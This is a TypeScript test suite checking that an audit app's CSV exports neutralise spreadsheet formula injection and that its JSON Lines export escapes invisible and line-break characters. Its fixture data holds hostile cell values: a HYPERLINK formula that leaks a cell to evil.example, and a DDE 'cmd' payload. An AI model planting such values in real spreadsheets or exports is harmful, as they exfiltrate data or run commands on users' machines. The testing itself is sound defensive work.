// No CSV cell the project writes starts a formula (issue 34, OWASP "CSV Injection"): provider and
// model names, hashes and timestamps are the audited party's to choose (any key-less edit of a body
// plants one). Chains are written with names carrying every dangerous prefix before a generated
// payload, exported as CSV (the view export) and searched for deleted rows (recover's
// recovered.csv); every cell is parsed back (RFC 4180) and checked: none begins with `=`, `+`, `-`,
// `@`, tab or CR, and each is the value written, with one leading `'` where it needed one.
import Database from 'better-sqlite3'
import { createHash, createHmac } from 'node:crypto'
import { mkdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { csvCell, FORMULA_START, startsFormula } from '../../../src/main/base/csv'
import { dispatch } from '../../../src/main/handlers/dispatch'
import { createHandlers } from '../../../src/main/handlers/table'
import { AuditSession } from '../../../src/main/session/session'
import { parseSecrets } from '../../../src/main/chain/keys'
import { recoverFile } from '../../../src/main/recovery/verdict'
import { writeCaseFile } from '../../../src/main/recovery/case-file'
import { tempDir } from '../server/testkit'

const KEY = Buffer.from('csv-injection-key-0123456789', 'utf8')
const tmp = tempDir('bijotel-csv-injection-')

afterAll(() => tmp.cleanup())

/** Compatibility forms NFKC folds to a formula character: fullwidth and small `= + - @`. */
const COMPAT = ['\uff1d', '\uff0b', '\uff0d', '\uff20', '\ufe66', '\ufe62', '\ufe63', '\ufe6b']
/** Format characters that draw nothing (zero-width space, word joiner, LRM/RLM, RLO), and the fullwidth quote and space. */
const INVISIBLE_LEADERS = ['\u200b', '\u2060', '\u200e', '\u200f', '\u202e', '\uff02', '\u3000']
const PREFIXES = ['=', '+', '-', '@', '\t', '\r', '==', '=-', '@@', ' =', '\t=', '\r\n=', ...COMPAT]
/** What an importer may trim or drop before a formula character (spaces, NBSP, BOM, NUL, quotes). */
const LEADERS = [
  ' ',
  '  ',
  '\n',
  '\u00a0',
  '\ufeff',
  '\0',
  '"',
  ' "',
  '\u2003',
  '\r\n ',
  ...INVISIBLE_LEADERS,
]
const PAYLOADS = [
  'HYPERLINK("http://evil.example/?leak="&A1,"click")',
  'SUM(1,2)',
  '1+1',
  "cmd|' /C calc'!A0",
  '2',
  'x"y,z',
  '',
]

/** Every prefix before every payload: the names a hostile writer could give providers and models. */
export function hostileNames(): string[] {
  const led = LEADERS.flatMap((l) => ['=', '+', '-', '@', ...COMPAT].map((f) => l + f + PAYLOADS[0]!))
  return [...PREFIXES.flatMap((p) => PAYLOADS.map((x) => p + x)), ...led].filter((s) => s !== '')
}

/**
 * What an importer trims or drops off a cell's start: white space, NUL and double quotes, and every
 * code point that draws nothing — controls (Excel's CLEAN()), format characters, and Unicode's
 * default-ignorable code points (UAX #44).
 */
const DROPPED_START = /^[\s\0"\u00a0\ufeff\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]+/u

/** Every code point that draws nothing or is white space (Cc, Cf, Z, default-ignorable), one each. */
function invisibleCodePoints(): string[] {
  const out: string[] = []
  for (let cp = 0; cp < 0x110000; cp++) {
    if (cp >= 0xd800 && cp < 0xe000) continue
    const c = String.fromCodePoint(cp)
    if (/[\p{Cc}\p{Cf}\p{Z}\p{Default_Ignorable_Code_Point}]/u.test(c)) out.push(c)
  }
  return out
}

/**
 * The oracle, apart from the code's own regex: a cell a spreadsheet may run — it starts with a tab,
 * CR or NUL, or does once an importer trims white space, NUL and double quotes off its start. A
 * cell starting with `'` is text (the neutraliser).
 */
function runnable(cell: string): boolean {
  if (cell.startsWith("'")) return false
  const dropped = (c: string): string => c.replace(DROPPED_START, '')
  return [cell, cell.normalize('NFKC'), dropped(cell).normalize('NFKC')].some(
    (c) => /^[\t\r\0]/.test(c) || /^[=+\-@]/.test(dropped(c)),
  )
}

/** RFC 4180 parse of `text` into rows of cells (quoted cells may hold commas, quotes and newlines). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  let i = 0
  while (i < text.length) {
    const c = text[i]!
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"'
        i += 2
        continue
      }
      if (c === '"') {
        quoted = false
        i++
        continue
      }
      cell += c
      i++
      continue
    }
    if (c === '"' && cell === '') {
      quoted = true
      i++
    } else if (c === ',') {
      row.push(cell)
      cell = ''
      i++
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i += 2
    } else if (c === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else {
      cell += c
      i++
    }
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell)
    rows.push(row)
  }
  return rows
}

/** A chain whose rows carry `names` as provider and model (sealed with KEY, as the reference does). */
function writeChain(path: string, names: string[], deleteFrom?: number): void {
  const db = new Database(path)
  try {
    db.pragma('journal_mode = DELETE')
    db.pragma('secure_delete = OFF')
    db.exec(`CREATE TABLE chain (
      seq INTEGER PRIMARY KEY AUTOINCREMENT, timestamp_ns INTEGER NOT NULL, trace_id TEXT NOT NULL,
      span_id TEXT NOT NULL, span_name TEXT NOT NULL, span_kind TEXT, canonical_body BLOB NOT NULL,
      canonical_hash TEXT NOT NULL, prev_hash TEXT NOT NULL, hmac_hash TEXT NOT NULL, semantic_body_hash TEXT)`)
    const insert = db.prepare(
      `INSERT INTO chain (seq, timestamp_ns, trace_id, span_id, span_name, span_kind, canonical_body, canonical_hash, prev_hash, hmac_hash)
       VALUES (?, ?, ?, ?, ?, 'CLIENT', ?, ?, ?, ?)`,
    )
    let prev = '0'.repeat(64)
    db.transaction(() => {
      names.forEach((name, i) => {
        const start = 1_700_000_000_000_000_000n + BigInt(i) * 1_000_000_000n
        const end = start + 100_000_000n
        // Keys in JCS order (RFC 8785 §3.2.3): the body is canonical, as the reference writes it.
        const body = Buffer.from(
          JSON.stringify({
            attributes: {
              'gen_ai.provider.name': name,
              'gen_ai.request.model': [...name].reverse().join(''),
              'gen_ai.usage.input_tokens': 10,
              'gen_ai.usage.output_tokens': 5,
            },
            end_time_ns: String(end),
            kind: 'CLIENT',
            name: `chat ${i}`,
            start_time_ns: String(start),
            status_code: 'OK',
            status_description: null,
          }),
          'utf8',
        )
        const ch = createHash('sha256').update(body).digest('hex')
        const mac = createHmac('sha256', KEY)
          .update(prev + ch, 'utf8')
          .digest('hex')
        insert.run(
          i + 1,
          end,
          (i + 1).toString(16).padStart(32, '0'),
          (i + 1).toString(16).padStart(16, '0'),
          `chat ${i}`,
          body,
          ch,
          prev,
          mac,
        )
        prev = mac
      })
    })()
    if (deleteFrom !== undefined) db.prepare('DELETE FROM chain WHERE seq >= ?').run(deleteFrom)
  } finally {
    db.close()
  }
}

/** Every cell of `csv` past the header: none starts a formula; each reads back as a value written. */
function checkCells(csv: string, written: Set<string>): number {
  const rows = parseCsv(csv)
  let restored = 0
  for (const row of rows.slice(1)) {
    for (const cell of row) {
      expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false)
      expect(runnable(cell), JSON.stringify(cell)).toBe(false)
      if (cell.startsWith("'") && written.has(cell.slice(1))) restored++
    }
  }
  return restored
}

describe('the cell encoder', () => {
  it('every invisible code point (controls, format, white space, default-ignorable) before every formula character, alone and doubled, and any length of white space before a fullwidth one', () => {
    const invisible = invisibleCodePoints()
    expect(invisible.length).toBeGreaterThan(4000)
    const heads = ['=', '+', '-', '@', ...COMPAT]
    let n = 0
    for (const [k, lead] of invisible.entries()) {
      const leads = [lead, lead + lead, lead + invisible[(k * 7919) % invisible.length]!]
      for (const l of leads)
        for (const h of heads) {
          const v = l + h + PAYLOADS[0]!
          const back = parseCsv(csvCell(v) + '\r\n')[0]?.[0] ?? ''
          n++
          // Checked before asserting: 100,000 expect() calls would take most of the test's time.
          if (runnable(back) || (back !== v && back !== `'${v}`))
            expect({ value: v, cell: back, runnable: runnable(back) }).toEqual({
              value: v,
              cell: `'${v}`,
              runnable: false,
            })
        }
    }
    expect(n).toBeGreaterThan(100_000)
    for (const length of [255, 256, 300, 5000])
      for (const space of [' ', '\u3000', '\u200b', '\u0001'])
        for (const h of COMPAT)
          expect(startsFormula(space.repeat(length) + h + '1+1'), `${length} ${h}`).toBe(true)
  })

  it('a tab or a carriage return after bidi marks, a BOM, format characters or controls (round 9)', () => {
    // Dropping the invisible run (as CLEAN(), importers and editors do) leaves a cell starting with
    // TAB or CR, which OWASP's list neutralises; the encoder let them through after one mark.
    const invisible = [
      '\u200e',
      '\u200f',
      '\u202a',
      '\u202e',
      '\u2066',
      '\u2069',
      '\ufeff',
      '\u061c',
      '\u2060',
      '\u00ad',
      '\u034f',
      '\u180e',
      '\u{e0001}',
      '\u0001',
      '\u0085',
      '\u0000',
      '"',
    ]
    let n = 0
    for (const a of invisible)
      for (const b of ['', ...invisible])
        for (const start of ['\t', '\r'])
          for (const rest of ['HYPERLINK("http://x")', '=1+1', 'plain']) {
            const v = a + b + start + rest
            expect(startsFormula(v), JSON.stringify(v)).toBe(true)
            expect(csvCell(v).replace(/^"/, ''), JSON.stringify(v)).toMatch(/^'/)
            n++
          }
    expect(n).toBeGreaterThan(1500)
    // White space before a tab is trimmed with it: not a start; nor is a tab inside a value.
    for (const v of [' \tplain', 'a\tb', '\u3000\rplain', 'x\u200e\t'])
      expect(startsFormula(v), JSON.stringify(v)).toBe(false)
  })

  it('prefixes exactly the cells that start a formula, and keeps the value', () => {
    for (const v of [...hostileNames(), 'anthropic', '12', 'a=b', "'quoted", '']) {
      const enc = csvCell(v)
      const back = parseCsv(enc + '\r\n')[0]?.[0] ?? ''
      expect(FORMULA_START.test(back), JSON.stringify(v)).toBe(false)
      expect(runnable(back), JSON.stringify(v)).toBe(false)
      expect(back).toBe(startsFormula(v) ? `'${v}` : v)
    }
  })
})

/** The app's view export of the chain at `path` (opened with the test key), as the handler returns it. */
async function exportView(path: string, format: 'csv' | 'jsonl'): Promise<{ content: string; rows: number }> {
  const session = new AuditSession({})
  try {
    session.keys = parseSecrets([{ encoding: 'hex', value: KEY.toString('hex') }])
    await session.open(path)
    const r = await dispatch(
      createHandlers(session),
      'exportView',
      { format },
      { transport: 'ipc', trusted: true },
    )
    if (!r.ok) throw new Error(r.error.error)
    return r.value as { content: string; rows: number }
  } finally {
    session.dispose()
  }
}

describe('the view export (exportView, CSV) of chains carrying hostile names', () => {
  const names = hostileNames()
  it(`${names.length} names with every dangerous prefix: no cell starts a formula, every name reads back`, async () => {
    const path = join(tmp.dir, 'hostile.db')
    writeChain(path, names)
    const { content, rows } = await exportView(path, 'csv')
    expect(rows).toBe(names.length)
    const written = new Set([...names, ...names.map((n) => [...n].reverse().join(''))])
    // Every provider and model name came back, neutralised.
    expect(checkCells(content, written)).toBeGreaterThanOrEqual(names.length)
  })
})

/** Python's str.splitlines() boundaries (built from code points: the lint forbids raw controls in a pattern). */
const SPLITLINES = new RegExp(
  '\r\n|[' +
    [0x0a, 0x0d, 0x0b, 0x0c, 0x1c, 0x1d, 0x1e, 0x85, 0x2028, 0x2029]
      .map((c) => String.fromCharCode(c))
      .join('') +
    ']',
)

describe('the view export as JSON Lines', () => {
  it('one record a line for every reader, whatever line terminator a name holds', async () => {
    const breakers = ['\u2028', '\u2029', '\u0085', '\r', '\n', '\u000b', '\u000c', '\u001c', '\u001e']
    const names = breakers.flatMap((b) => [`a${b}b`, `${b}{"seq":1}`, `x${b}${b}=1+1`])
    const path = join(tmp.dir, 'jsonl.db')
    writeChain(path, names)
    const { content } = await exportView(path, 'jsonl')
    // Every line terminator Python's str.splitlines() and ECMAScript know: one record each.
    const lines = content.split(SPLITLINES).filter((l) => l !== '')
    expect(lines).toHaveLength(names.length)
    const seen = lines.map((l) => JSON.stringify(JSON.parse(l) as unknown))
    for (const n of names) expect(seen.some((l) => l.includes(JSON.stringify(n).slice(1, -1)))).toBe(true)
  })
})

describe('the view export as JSON Lines shows no invisible character raw', () => {
  it('bidi overrides, zero-width characters, DEL and C1 controls are \\u escapes; the names read back', async () => {
    const hidden = [
      '\u202e',
      '\u2066',
      '\u200b',
      '\u2060',
      '\u061c',
      '\u007f',
      '\u009b',
      '\u0085',
      '\ufeff',
      '\u00ad',
    ]
    const names = hidden.flatMap((h) => [`anthropic${h}`, `${h}gpt-4o`, `a${h}${h}b`])
    const path = join(tmp.dir, 'jsonl-bidi.db')
    writeChain(path, names)
    const { content } = await exportView(path, 'jsonl')
    for (const h of hidden) expect(content.includes(h), JSON.stringify(h)).toBe(false)
    const read = content
      .split('\n')
      .filter((l) => l !== '')
      .map((l) => JSON.parse(l) as { provider: string })
    expect(read.map((r) => r.provider).sort()).toEqual([...names].sort())
  })
})

describe("recover's case file (recovered.csv) of deleted hostile rows", () => {
  it('no cell starts a formula', () => {
    const names = hostileNames()
    mkdirSync(join(tmp.dir, 'evidence'))
    const path = join(tmp.dir, 'evidence', 'deleted.db')
    writeChain(path, names, 5)
    const result = recoverFile(path, parseSecrets([{ encoding: 'hex', value: KEY.toString('hex') }]))
    const rows = [
      ...result.rows.map((r) => ({ ...r, uncommitted_only: false })),
      ...result.uncommitted.map((r) => ({ ...r, uncommitted_only: true })),
    ]
    expect(rows.length).toBeGreaterThan(0)
    const out = join(tmp.dir, 'case')
    writeCaseFile(out, path, rows)
    checkCells(readFileSync(join(out, 'recovered.csv'), 'utf8'), new Set())
    // And with the hostile values a forged row could carry in its text columns.
    const forged = rows.map((r, i) => ({
      ...r,
      canonical_hash: names[i % names.length]!,
      prev_hash: names[(i + 1) % names.length]!,
      hmac_hash: `=${r.hmac_hash}`,
      timestamp_ns: `-${i}`,
    }))
    const out2 = join(tmp.dir, 'case2')
    writeCaseFile(out2, path, forged)
    const restored = checkCells(readFileSync(join(out2, 'recovered.csv'), 'utf8'), new Set(names))
    expect(restored).toBeGreaterThanOrEqual(forged.length)
  })
})
